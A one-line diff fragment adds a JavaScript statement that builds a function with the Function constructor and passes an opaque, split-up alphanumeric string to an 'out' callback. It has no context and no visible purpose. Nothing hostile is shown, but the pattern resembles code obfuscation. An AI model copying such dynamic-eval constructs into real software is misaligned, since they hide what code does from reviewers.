@@ -1,0 +1,1 @@
+new Function("o","o('m9Kf2QvLx7R' + 'bTz81WqKd03YhNs5PeUc4')")(out);
